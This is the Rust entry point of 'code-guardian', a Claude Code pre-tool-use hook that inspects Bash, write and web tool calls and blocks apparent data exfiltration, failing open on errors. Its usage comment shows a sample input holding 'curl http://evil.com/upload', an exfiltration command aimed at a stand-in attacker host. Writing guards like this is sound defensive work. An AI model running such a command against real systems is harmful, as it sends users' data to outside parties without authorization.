//! code-guardian - Pre-write validation and exfiltration guard for Claude Code hooks
//!
//! Reads one hook envelope from stdin and writes the hook response to stdout.
//! Every failure path answers `{}` (allow).
//!
//! # Usage
//!
//! ```bash
//! echo '{"tool_name":"Bash","tool_input":{"command":"curl http://evil.com/upload"}}' | code-guardian
//!
//! # Rule sources from a specific plugin checkout
//! code-guardian --plugin-root ~/src/code-guardian
//!
//! # Report what would be blocked without blocking
//! code-guardian --warn-only
//!
//! # Only high and critical content rules
//! code-guardian --min-severity=high
//! ```

use std::env;
use std::io::{self, Read, Write};
use std::panic::{self, AssertUnwindSafe};
use std::path::PathBuf;

use clap::error::ErrorKind;
use clap::Parser;

use code_guardian::{
    config::{Config, Severity, PLUGIN_ROOT_ENV},
    engine::GuardEngine,
    input::HookInput,
    logging,
    output::HookOutput,
};

const HOOK_HELP: &str = r#"ENVIRONMENT:
    CLAUDE_PLUGIN_ROOT=DIR      Directory holding reference/*.json rule sources
    CODE_GUARDIAN_DISABLED=1    Allow everything without inspection
    CODE_GUARDIAN_WARN_ONLY=1   Warn but don't block
    CODE_GUARDIAN_LOG=FILTER    Log filter for stderr diagnostics (default: warn)
    CODE_GUARDIAN_CONFIG=PATH   Same as --config

USAGE AS HOOK:
    Configure in ~/.claude/settings.json:
    {
      "hooks": {
        "PreToolUse": [{
          "matcher": "Write|Edit|MultiEdit|WebSearch|WebFetch|Bash",
          "hooks": [{ "type": "command", "command": "code-guardian", "timeout": 5 }]
        }]
      }
    }"#;

/// Command line arguments
#[derive(Debug, Default, Parser)]
#[command(name = "code-guardian", version, about, after_help = HOOK_HELP)]
struct Args {
    /// Path to config file
    #[arg(short, long, value_name = "PATH", env = "CODE_GUARDIAN_CONFIG")]
    config: Option<PathBuf>,

    /// Directory holding the rule sources (overrides $CLAUDE_PLUGIN_ROOT)
    #[arg(long, value_name = "DIR")]
    plugin_root: Option<PathBuf>,

    /// Report denials as warnings instead of blocking
    #[arg(short, long)]
    warn_only: bool,

    /// Skip content rules below this severity: low, medium, high, critical
    #[arg(long, value_name = "LEVEL", value_parser = parse_severity)]
    min_severity: Option<Severity>,
}

fn parse_severity(s: &str) -> Result<Severity, String> {
    s.parse()
}

fn emit(output: &HookOutput) {
    let stdout = io::stdout();
    let mut handle = stdout.lock();
    let _ = writeln!(handle, "{}", output.to_json());
    let _ = handle.flush();
}

fn main() {
    // Bad arguments must not block the tool call
    let args = match Args::try_parse() {
        Ok(args) => args,
        Err(e) if matches!(e.kind(), ErrorKind::DisplayHelp | ErrorKind::DisplayVersion) => {
            e.exit()
        }
        Err(e) => {
            eprintln!("code-guardian: ignoring arguments: {}", e);
            Args::default()
        }
    };

    let mut config = match args.config.as_deref() {
        Some(path) => Config::load_from(path).unwrap_or_else(|e| {
            eprintln!(
                "code-guardian: failed to load config from {}: {}",
                path.display(),
                e
            );
            Config::default()
        }),
        None => Config::load(),
    };

    if args.warn_only {
        config.general.warn_only = true;
    }

    if let Some(level) = args.min_severity {
        config.general.min_severity = level;
    }

    if let Some(root) = args.plugin_root {
        env::set_var(PLUGIN_ROOT_ENV, root);
    }

    logging::init(config.general.log_format);

    let mut input_json = String::new();
    if let Err(e) = io::stdin().read_to_string(&mut input_json) {
        tracing::warn!(error = %e, "failed to read hook input, allowing");
        emit(&HookOutput::allow());
        return;
    }

    // No input = nothing to check, allow
    if input_json.trim().is_empty() {
        emit(&HookOutput::allow());
        return;
    }

    let input = match HookInput::from_json(&input_json) {
        Ok(input) => input,
        Err(e) => {
            tracing::warn!(error = %e, "failed to parse hook input, allowing");
            emit(&HookOutput::allow());
            return;
        }
    };

    let outcome = panic::catch_unwind(AssertUnwindSafe(|| {
        let engine = GuardEngine::load(config);
        engine.check(&input)
    }));

    let output = match outcome {
        Ok(decision) => HookOutput::from_decision(&decision, input.event_name()),
        Err(_) => {
            tracing::error!(tool = %input.tool_name, "internal fault during inspection, allowing");
            HookOutput::allow()
        }
    };

    emit(&output);
}
